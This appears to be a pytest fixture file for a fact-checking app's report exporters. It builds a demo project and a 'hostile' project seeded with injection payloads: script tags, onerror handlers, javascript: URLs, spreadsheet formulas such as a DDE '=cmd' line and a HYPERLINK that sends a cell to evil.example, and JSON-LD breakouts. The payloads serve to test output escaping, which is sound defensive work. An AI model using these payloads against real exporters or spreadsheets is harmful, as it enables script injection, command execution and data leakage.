"""Projects to export, built once per session: the demo project (verdicts, sources, attribution, web and note
evidence) with a file as evidence and report settings; and a hostile project whose every text field tries to
inject markup, script, a formula or a second JSON-LD block."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from workbench.domain.model import DEFAULT_RATINGS, Rating, Stance
from workbench.exporters.model import Report
from workbench.ops import claims as claim_ops
from workbench.ops import documents as doc_ops
from workbench.ops import evidence as ev_ops
from workbench.ops import reports, verdicts
from workbench.ops import settings as settings_ops
from workbench.ops.project import Project, build_demo, create_project, open_project

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4"
       b"\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND"
       b"\xaeB`\x82")
AUTHOR = "Euphrates Check Desk"
BASE_URL = "https://check.example.org/2017/tal-sarmin"

# Written for these tests in the style of the war reports the app is made for; emoji (outside the Basic
# Multilingual Plane) come before the quoted passages, so code points and UTF-16 units differ there.
ARTICLE = (
    "Clashes Reported Near Wadi Rummana Checkpoint 🔴\n"
    "By Field Desk | 07.12.2017\n\n"
    "🇸🇾 Pro-government channels said on Thursday that army units repelled an attack on the Wadi Rummana "
    "checkpoint. Local sources said at least three fighters were killed in the exchange.\n\n"
    "The ISIS-linked Amaq agency claimed its fighters “destroyed a tank” near the checkpoint, but no photos were "
    "published. Residents reached by phone said the shooting stopped before dawn.\n"
)
SCRIPT = '</script><script>alert("x")</script>'
HOSTILE_CLAIM = f'=HYPERLINK("http://evil.example/?q="&A1,"Click") {SCRIPT} "}}]}} <!--'
HOSTILE_RATIONALE = ("**Bold stays.** <script>alert(1)</script> <img src=x onerror=alert(2)> "
                     "[click](javascript:alert(3)) ![pixel](http://tracker.example/p.png) `<b>code</b>`\n\n"
                     "```\n</script><script>alert(4)</script>\n```\n\n<iframe src=http://evil.example></iframe>")
HOSTILE_TITLE = '</title><script>alert("title")</script>'
HOSTILE_URL = 'https://evil.example/"onmouseover="alert(5)'


@pytest.fixture(scope="session", autouse=True)
def _qt_application(qapp: object) -> object:
    """pytest-qt's QApplication, made before render_pdf would make a plain QGuiApplication (a process can have
    only one, and the GUI tests that may follow in the same run need a QApplication)."""
    return qapp


@dataclass(frozen=True)
class Exported:
    path: Path
    report: Report


def _report(path: Path, claim_ids: list[str] | None = None) -> Report:
    project = open_project(path, read_only=True)
    try:
        return reports.build_report(project, claim_ids, tables=True)
    finally:
        project.close()


@pytest.fixture(scope="session")
def demo_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("demo-export")
    path = folder / "demo.fcw"
    project = build_demo(path)
    try:
        settings_ops.set_settings(project, author=AUTHOR, base_url=BASE_URL, title="Tal Sarmin, December 2017")
        first = claim_ops.list_claims(project)[0].claim.id
        photo = folder / "checkpoint-photo.png"
        photo.write_bytes(PNG)
        ev_ops.add_file_evidence(project, first, photo, Stance.CONTEXT, title="Photo of the checkpoint",
                                 credibility=3, source="Euphrates Monitor")
    finally:
        project.close()
    return path


@pytest.fixture(scope="session")
def demo(demo_path: Path) -> Exported:
    return Exported(demo_path, _report(demo_path))


def make_hostile(path: Path) -> Path:
    project = create_project(path)
    try:
        outcome = doc_ops.import_data(project, ARTICLE.encode("utf-8"), "wadi-rummana.txt")
        doc_id = outcome.document_id
        doc_ops.update_metadata(project, doc_id, doc_ops.DocumentMetadata(
            title=HOSTILE_TITLE, publisher='"><img src=x onerror=alert(6)>', author="=cmd|' /C calc'!A0",
            url="javascript:alert(7)", published="2017-12-07", language="en"))
        text = doc_ops.get_document(project, doc_id).text
        quote = "army units repelled an attack on the Wadi Rummana checkpoint"
        start = text.index(quote)
        claim_id, _ = claim_ops.create_claim_from_passage(project, doc_id, start, start + len(quote),
                                                          text=HOSTILE_CLAIM, claimant="+cmd|' /C calc'!A0")
        verdicts.set_attribution(project, claim_id, ["<b>Amaq</b>", '"}]}</script>'])
        verdicts.set_tags(project, claim_id, ["=1+1", "<i>tag</i>"])
        scale = [Rating(r.label, r.definition + (" <script>alert(8)</script>" if r.label == "False" else ""),
                        r.colour, r.value) for r in DEFAULT_RATINGS]
        verdicts.save_rating_scale(project, scale)
        verdicts.set_verdict(project, claim_id, rating="False", rationale=HOSTILE_RATIONALE,
                             summary="@SUM(1+1) <img src=x onerror=alert(9)>", status="final")
        quote2 = "destroyed a tank"
        s2 = text.index(quote2)
        claim_ops.add_passage_evidence(project, claim_id, doc_id, s2, s2 + len(quote2), Stance.REFUTES,
                                       credibility=5, source='"}]}</script><script>alert(10)</script>')
        ev_ops.add_url_evidence(project, claim_id, HOSTILE_URL, Stance.SUPPORTS,
                                title="[x](javascript:alert(11)) <b>t</b>", credibility=2, source="-Evil")
        ev_ops.add_note_evidence(project, claim_id, "-1+2 <script>alert(12)</script>", Stance.CONTEXT,
                                 title="@note")
        quote3 = "Residents reached by phone"
        s3 = text.index(quote3)
        claim_ops.create_claim_from_passage(project, doc_id, s3, s3 + len(quote3), text="-2+3 and @everyone\ttab")
        settings_ops.set_settings(project, author='"}]} </script><!-- Desk', title=HOSTILE_TITLE,
                                  base_url="https://check.example.org/r")
    finally:
        project.close()
    return path


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Exported:
    path = make_hostile(tmp_path_factory.mktemp("hostile-export") / "hostile.fcw")
    return Exported(path, _report(path))


@pytest.fixture
def writable(tmp_path: Path) -> Iterator[Project]:
    """A fresh empty project."""
    project = create_project(tmp_path / "fresh.fcw")
    yield project
    project.close()
